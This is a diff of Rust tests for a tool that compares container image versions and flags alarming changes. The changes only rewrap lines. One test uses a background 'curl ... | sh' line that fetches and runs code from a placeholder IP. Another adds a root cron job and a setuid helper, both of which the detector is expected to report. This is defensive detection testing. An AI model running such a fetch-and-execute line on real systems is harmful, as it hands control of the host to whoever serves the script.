@@ -60,11 +60,16 @@ fn one_background_line_added_to_a_start_script_is_named_as_what_changed() {
 #[test]
 fn a_line_that_fetches_and_runs_is_called_alarming() {
     let line = "(curl -fsSL http://198.51.100.9/x | sh) &";
-    let said = diff(&tomcat("10.1.1", ""), &tomcat("10.1.2", &format!("    {line}\n")), &["--fail-on", "alarming"]);
+    let said =
+        diff(&tomcat("10.1.1", ""), &tomcat("10.1.2", &format!("    {line}\n")), &["--fail-on", "alarming"]);
     assert_eq!(said.code, 1, "{said:?}");
     let text = flat(&said.out);
     assert!(text.starts_with("alarming"), "{}", said.out);
-    for sentence in ["runs what comes from http://198.51.100.9/x with sh", "host: 198.51.100.9", "[/usr/local/tomcat/bin/catalina.sh:5]"] {
+    for sentence in [
+        "runs what comes from http://198.51.100.9/x with sh",
+        "host: 198.51.100.9",
+        "[/usr/local/tomcat/bin/catalina.sh:5]",
+    ] {
         assert!(text.contains(sentence), "`{sentence}` is not in:\n{}", said.out);
     }
 }
@@ -81,11 +86,14 @@ fn a_new_version_of_the_same_thing_is_an_update_and_passes() {
 
 #[test]
 fn new_privileges_schedules_and_programs_are_named() {
-    let more = "FILE /etc/cron.d/job\n    * * * * * root /opt/job\nELF /opt/job 0755\nELF /usr/bin/helper 4755\n";
+    let more =
+        "FILE /etc/cron.d/job\n    * * * * * root /opt/job\nELF /opt/job 0755\nELF /usr/bin/helper 4755\n";
     let said = diff(&tomcat("10.1.1", ""), &format!("{}{more}", tomcat("10.1.1", "")), &[]);
     assert_eq!(said.code, 1, "{said:?}");
     let text = flat(&said.out);
-    for sentence in ["new schedule: /etc/cron.d/job", "new program: /opt/job", "new privileged program: /usr/bin/helper"] {
+    for sentence in
+        ["new schedule: /etc/cron.d/job", "new program: /opt/job", "new privileged program: /usr/bin/helper"]
+    {
         assert!(text.contains(sentence), "`{sentence}` is not in:\n{}", said.out);
     }
 }
